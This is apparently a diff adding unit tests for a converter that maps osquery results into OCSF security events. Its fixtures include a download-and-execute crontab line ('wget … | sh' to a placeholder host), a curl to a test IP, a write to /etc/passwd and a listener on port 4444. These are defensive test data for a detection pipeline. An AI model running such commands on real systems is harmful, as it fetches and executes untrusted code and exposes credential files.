@@ -1,0 +1,90 @@
+import assert from 'node:assert/strict'
+import { test } from 'node:test'
+import { CLASS } from '../../ocsf/event.js'
+import { corpusOf, corpusReport } from '../../test/corpus.js'
+import { eventOf, eventsOf, fixtureCase, RECEIVED, refusalOf } from '../../test/format-cases.js'
+import { osquery } from './osquery.js'
+
+const given = (name: string) => fixtureCase('osquery/results.jsonl', name)
+const convert = (name: string) => eventOf(osquery, given(name))
+
+test('process events are launches by their parent, at their own time', () => {
+  const event = convert('process event')
+  assert.deepEqual([event.class_uid, event.activity_name], [CLASS.process_activity, 'Launch'])
+  assert.equal(event.time, 1_768_206_595_000)
+  assert.deepEqual([event.process.pid, event.process.cmd_line], [812, 'curl http://203.0.113.5/a'])
+  assert.deepEqual(event.process.user, { uid: '0' })
+  assert.deepEqual(event.actor, { process: { pid: 700 }, user: { uid: '1000' } })
+  assert.equal(event.workload?.uid, 'vm/web-1')
+  assert.deepEqual(event.device.os, { name: 'ubuntu', type_id: 200 })
+  assert.equal(event.severity_id, 1)
+})
+
+test('socket and file events', () => {
+  const socket = convert('socket event')
+  assert.deepEqual([socket.class_uid, socket.activity_name, socket.status_id], [CLASS.network_activity, 'Open', 1])
+  assert.deepEqual(socket.dst_endpoint, { ip: '203.0.113.5', port: 443 })
+  assert.equal(socket.connection_info.direction_id, 2)
+  assert.equal(socket.actor.process.pid, 812)
+  const file = convert('file event')
+  assert.deepEqual([file.class_uid, file.activity_name], [CLASS.file_activity, 'Update'])
+  assert.equal(file.file.path, '/etc/passwd')
+  assert.equal(file.file.hashes[0].value, 'ab'.repeat(32))
+})
+
+test('differences: a job is deleted, somebody logged in, ports are opened and closed', () => {
+  const job = convert('crontab removed')
+  assert.deepEqual([job.class_uid, job.activity_name], [CLASS.scheduled_job_activity, 'Delete'])
+  assert.equal(job.job.cmd_line, 'wget -qO- http://x.example/i.sh | sh')
+  const login = convert('login')
+  assert.deepEqual([login.class_uid, login.activity_name], [CLASS.authentication, 'Logon'])
+  assert.deepEqual([login.user.name, login.src_endpoint.ip, login.is_remote], ['ana', '203.0.113.7', true])
+  const [opened, closed] = (osquery.split?.(given('batch')) ?? []).map((part) => eventOf(osquery, part))
+  assert.deepEqual([opened?.activity_name, opened?.dst_endpoint.port], ['Listen', 4444])
+  assert.deepEqual([closed?.activity_name, closed?.dst_endpoint.port], ['Close', 80])
+})
+
+test('snapshots and envelopes are taken apart', () => {
+  const users = (osquery.split?.(given('snapshot')) ?? []).map((part) => eventOf(osquery, part))
+  assert.deepEqual(
+    users.map((event) => event.class_uid),
+    [CLASS.user_inventory, CLASS.user_inventory],
+  )
+  assert.deepEqual(
+    users.map((event) => event.user.name),
+    ['root', 'ana'],
+  )
+  assert.equal(users[0]?.time, 1_768_206_600_000)
+  const [software] = (osquery.split?.(given('tls logger')) ?? []).flatMap((part) => eventsOf(osquery, part))
+  assert.equal(software?.class_uid, CLASS.software_info)
+  assert.deepEqual(software?.package, { name: 'netcat', version: '1.2', architecture: 'amd64' })
+})
+
+test('status lines, and tables that are not known', () => {
+  const status = convert('status')
+  assert.deepEqual([status.class_uid, status.severity_id], [CLASS.application_error, 4])
+  assert.equal(status.message, 'Error executing query')
+  const custom = convert('custom')
+  assert.equal(custom.class_uid, CLASS.inventory_info)
+  assert.equal(custom.unmapped?.['columns.current_value'], '1')
+})
+
+test('where the collector knows the machine, it is the host collector’s', () => {
+  const host = { id: 'abc', name: 'web-1' }
+  const outcome = osquery.create({})(given('custom'), { received_time: RECEIVED, host })
+  assert.equal(outcome.kind === 'ok' ? outcome.value[0]?.workload?.uid : outcome.kind, 'vm/abc')
+})
+
+test('refused with a reason', () => {
+  assert.match(refusalOf(osquery, { name: 'a' }), /^not_osquery: columns/)
+  assert.match(refusalOf(osquery, { name: 'a', columns: [] }), /^wrong_type: columns: expected an object/)
+  assert.match(refusalOf(osquery, { name: 'a', columns: {}, unixTime: 'x' }), /^wrong_type: unixTime/)
+  assert.match(refusalOf(osquery, { name: 'a', columns: {}, unixTime: 99_999_999_999_999 }), /^bad_time/)
+})
+
+const shared = corpusOf('osquery', ['parser-corpus/osquery.jsonl', 'panther-tests/Osquery.Differential.jsonl'])
+test('all results of the corpus become valid OCSF', { skip: shared ? false : '../shared/data is absent' }, () => {
+  const report = corpusReport(osquery, shared ?? [])
+  assert.ok(report.events > 30)
+  assert.deepEqual([report.rejected, report.dropped, report.problems], [{}, {}, {}])
+})
